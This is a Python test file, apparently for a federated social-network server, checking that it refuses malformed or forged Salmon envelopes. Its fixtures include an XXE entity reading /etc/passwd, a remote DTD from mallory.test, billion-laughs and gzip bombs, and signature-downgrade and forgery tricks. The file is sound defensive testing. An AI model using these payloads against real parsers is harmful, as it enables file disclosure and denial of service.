"""eve sends what is no proper message: broken, bomb, or sealed in ways that nobody may trust.

The pod acknowledges everything and obeys nothing; its log says why.

Clauses: DEC-4.14; protocol 9 rows 1, 2, 3, 5, 6, 10, 11, 12, 13, 23, 24
"""

import base64
import gzip
import json

from harness import Account, Federation, Peer, PeerPerson, Value
from scenarios.attacks import CANARY, brought, harmless, post

DOCTYPE = '<!DOCTYPE x [<!ENTITY e "boom">]>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
BOMB = f"<!DOCTYPE x [{LAUGHS}]>"
LEAK = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "https://mallory.test/evil.dtd">'


def changed(envelope: bytes, old: str, new: str) -> bytes:
    """An envelope in which one thing is different."""
    assert old.encode() in envelope
    return envelope.replace(old.encode(), new.encode(), 1)


def test_xml_bombs_and_broken_xml_are_refused(
    federation: Federation, peer: Peer, eve: PeerPerson
) -> None:
    """Clauses: DEC-4.14; protocol 9 row 1, row 2, row 3."""
    good = eve.seal(post(eve))
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    hidden = "<!-- nothing --><?pi nothing?>" + DOCTYPE
    envelopes = {
        "a DTD": changed(good, head, head + DOCTYPE),
        "a bomb": changed(good, head, head + BOMB).replace(b"base64url<", b"&l9;<"),
        "a file": changed(good, head, head + LEAK).replace(b"base64url<", b"&e;<"),
        "a remote DTD": changed(good, head, head + REMOTE),
        "a DTD after comments": changed(good, head, head + hidden),
        "a DTD in UTF-16": changed(good, head, DOCTYPE).decode().encode("utf-16"),
        "cut off": good[:-9],
        "two roots": good + b"<more/>",
        "not XML": b"\x00\xff" * 64,
        "nothing": b"",
    }
    payloads = {
        "a DTD inside": DOCTYPE + post(eve, text="&e;").replace("&amp;", "&"),
        "a bomb inside": BOMB + post(eve).replace(CANARY, "&l9;"),
        "a file inside": LEAK + post(eve).replace(CANARY, "&e;"),
        "an entity from nowhere": post(eve).replace(CANARY, "&e;"),
        "a missing end tag": post(eve).replace("</text>", ""),
        "no payload": "",
    }
    with harmless(federation, eve):
        bodies = envelopes | {name: eve.seal(text) for name, text in payloads.items()}
        answers = brought(federation, peer, bodies, "pod1")
    refused = "InvalidXml: {}: has a DOCTYPE, which is refused"
    with_doctype = {name for name, answer in answers.items() if "DOCTYPE" in answer}
    assert with_doctype == {*list(envelopes)[:5], *list(payloads)[:3]}
    assert {answers[name] for name in with_doctype} == {
        refused.format("envelope"),
        refused.format("payload"),
    }
    others = {
        answer.partition(" at ")[0] for name, answer in answers.items() if name not in with_doctype
    }
    assert others == {
        "InvalidXml: envelope: not well-formed",
        "InvalidXml: payload: not well-formed",
    }


def test_what_is_too_large_too_deep_or_too_much_is_refused(
    federation: Federation, peer: Peer, eve: PeerPerson
) -> None:
    """Clauses: DEC-4.14; protocol 9 row 5, row 6."""
    good = eve.seal(post(eve))
    deep, deeper = ("<a>" * n + "</a>" * n for n in (20, 1000))
    photos: list[dict[str, Value]] = [
        {
            "author": str(eve),
            "guid": peer.new_guid(),
            "public": True,
            "remote_photo_path": "https://peer.test/",
            "remote_photo_name": "a.png",
        }
        for _ in range(101)
    ]
    answers_ = [{"guid": peer.new_guid(), "answer": "yes"} for _ in range(101)]
    with harmless(federation, eve):
        assert peer.bring(b" " * (5 * 1024 * 1024 + 1), "pod1") == 413
        answers = brought(
            federation,
            peer,
            {
                "levels of the envelope": changed(good, "</me:env>", f"{deep}</me:env>"),
                "levels": eve.seal(post(eve).replace("</text>", f"</text>{deep}")),
                "more levels than parsers like": eve.seal(
                    post(eve).replace("</text>", f"</text>{deeper}")
                ),
                "elements": eve.seal(post(eve).replace("</text>", "</text>" + "<a/>" * 5000)),
                "photos": eve.seal(post(eve, photo=photos)),
                "answers": eve.seal(
                    post(
                        eve,
                        poll={"guid": peer.new_guid(), "question": "?", "poll_answer": answers_},
                    )
                ),
                "text": eve.seal(post(eve, text="x" * 65536)),
                "a small bomb": gzip.compress(b" " * 10**7),
            },
            "pod1",
        )
    assert answers == {
        "levels of the envelope": "TooLarge: envelope: more than 8 levels or 4000 elements",
        "levels": "TooLarge: payload: more than 8 levels or 4000 elements",
        "more levels than parsers like": "InvalidXml: payload: not well-formed at (1, 974)",
        "elements": "TooLarge: payload: more than 8 levels or 4000 elements",
        "photos": "TooLarge: photo: 101 of them, at most 100 are read",
        "answers": "TooLarge: poll_answer: 101 of them, at most 100 are read",
        "text": "InvalidEntity: status_message: text: 65536 characters, at most 65535 are allowed",
        "a small bomb": "InvalidXml: envelope: not well-formed at (1, 1)",
    }


def test_algorithms_and_signatures_that_are_not_the_only_ones_are_refused(
    federation: Federation, peer: Peer, eve: PeerPerson, carol: Account
) -> None:
    """Clauses: DEC-4.14, DEF-2.10b; protocol 9 row 10, row 12, row 13."""
    ann = peer.nobody("ann")
    text = post(eve)
    good = eve.seal(text)
    data, other = (base64.urlsafe_b64encode(each.encode()).decode() for each in (text, post(eve)))
    signature = good.partition(b'">')[2].rpartition(b'">')[2].partition(b"<")[0].decode()
    bodies = {
        "none": changed(good, ">RSA-SHA256<", ">none<"),
        "HMAC": changed(good, ">RSA-SHA256<", ">HMAC-SHA256<"),
        "SHA-1 claimed": changed(good, ">RSA-SHA256<", ">RSA-SHA1<"),
        "lower case": changed(good, ">RSA-SHA256<", ">rsa-sha256<"),
        "another encoding": changed(good, ">base64url<", ">base64<"),
        "another type": changed(good, "application/xml", "text/xml"),
        "SHA-1": eve.seal(text, "RSA-SHA1"),
        "PSS": eve.seal(text, "RSASSA-PSS"),
        "no signature": changed(good, signature, ""),
        "half a signature": changed(good, signature, signature[:8]),
        "another text": changed(good, data, other),
        "two texts": changed(
            good, "<me:data", f'<me:data type="application/xml">{other}</me:data><me:data'
        ),
        "another key": eve.sealed_with_key_of(ann, text),
        "another name": eve.seal_as(carol, text),
        "no name": changed(good, "key_id", "id"),
        "a name that is none": eve.seal_as("Eve <eve@peer.test>", text),
        "line breaks": changed(good, data, data[:40] + "\n" + data[40:]),
        "another namespace": changed(good, "salmon-protocol.org", "salmon.example.org"),
    }
    with harmless(federation, eve):
        answers = brought(federation, peer, bodies, "pod1")
    unsupported, forged = "UnsupportedAlgorithm: envelope: {} must be {}", "wrong signature"
    by_eve, by_carol = (f"envelope of {name}: " for name in ("eve@peer.test", "carol@pod1.test"))
    algorithm = unsupported.format("algorithm", "RSA-SHA256")
    assert answers == dict.fromkeys(("none", "HMAC", "SHA-1 claimed", "lower case"), algorithm) | {
        "another encoding": unsupported.format("encoding", "base64url"),
        "another type": unsupported.format("type", "application/xml"),
        "SHA-1": f"BadSignature: {by_eve}{forged}",
        "PSS": f"BadSignature: {by_eve}{forged}",
        "no signature": f"MissingSignature: {by_eve}the signature is empty",
        "half a signature": f"BadSignature: {by_eve}{forged}",
        "another text": f"BadSignature: {by_eve}{forged}",
        "two texts": "InvalidEnvelope: envelope: 2 elements me:data, expected one",
        "another key": f"BadSignature: {by_eve}{forged}",
        "another name": f"BadSignature: {by_carol}{forged}",
        "no name": "InvalidEnvelope: envelope: me:sig has no key_id",
        "a name that is none": "InvalidEnvelope: envelope: key_id is no diaspora ID",
        "line breaks": "InvalidEnvelope: envelope: me:data is not canonical base64url",
        "another namespace": "InvalidEnvelope: envelope: the root is "
        "'{http://salmon.example.org/ns/magic-env}env', expected me:env",
    }


def test_private_messages_that_cannot_be_opened_get_the_same_answer(
    federation: Federation, peer: Peer, eve: PeerPerson, carol: Account, debora: Account
) -> None:
    """Clauses: DEC-2.16; protocol 9 row 23, row 24."""
    envelope = eve.seal(post(eve, public=False))
    for_carol = peer.encrypted(envelope, carol)
    document = json.loads(for_carol)
    secret = bytearray(base64.b64decode(document["encrypted_magic_envelope"]))
    secret[40] ^= 1

    def without(**members: str) -> bytes:
        return json.dumps(document | members).encode()

    bodies = {
        "for somebody else": peer.encrypted(envelope, debora),
        "manipulated": without(encrypted_magic_envelope=base64.b64encode(secret).decode()),
        "cut off": without(encrypted_magic_envelope=document["encrypted_magic_envelope"][:-24]),
        "no secret": without(encrypted_magic_envelope=""),
        "no key": without(aes_key=""),
        "no base64": without(aes_key="%%%"),
        "another block": without(aes_key=base64.b64encode(b"\x01" * 256).decode()),
        "no object": b"[1, 2]",
        "no JSON": b"{",
        "deep": b"[" * 100_000,
        "not encrypted": envelope,
        "nothing": b"",
    }
    with harmless(federation, eve):
        answers = brought(federation, peer, bodies, carol)
        astray = brought(federation, peer, {"private in public": for_carol}, "pod1")
    closed = "DecryptionFailed: encrypted envelope: cannot be decrypted with this key"
    # Who has the right key but no proper envelope inside learns no more than the others.
    inside = "InvalidXml: envelope: not well-formed"
    assert {name: answer.partition(" at ")[0] for name, answer in answers.items()} == (
        dict.fromkeys(bodies, closed) | {"manipulated": inside}
    )
    assert astray == {"private in public": "InvalidXml: envelope: not well-formed at (1, 1)"}
